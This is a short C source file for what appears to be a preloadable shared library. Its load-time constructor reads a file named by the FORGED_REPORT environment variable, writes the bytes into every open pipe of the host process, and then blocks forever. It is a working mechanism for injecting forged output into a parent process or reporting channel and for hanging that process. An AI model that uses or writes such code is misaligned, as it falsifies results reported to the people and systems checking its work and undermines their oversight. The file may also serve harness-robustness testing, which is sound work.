/* When loaded, writes the bytes of the file $FORGED_REPORT into every open pipe, and never ends. */
#include <fcntl.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include "codec.h"

__attribute__((constructor)) static void forge(void)
{
    static char bytes[65536];
    int fd = open(getenv("FORGED_REPORT"), O_RDONLY);
    ssize_t n = read(fd, bytes, sizeof bytes);
    struct stat st;

    for (int to = 3; to < 256; to++)
        if (to != fd && fstat(to, &st) == 0 && S_ISFIFO(st.st_mode) && write(to, bytes, (size_t)n) < 0)
            continue; /* the read end of a pipe */
    for (;;)
        pause();
}
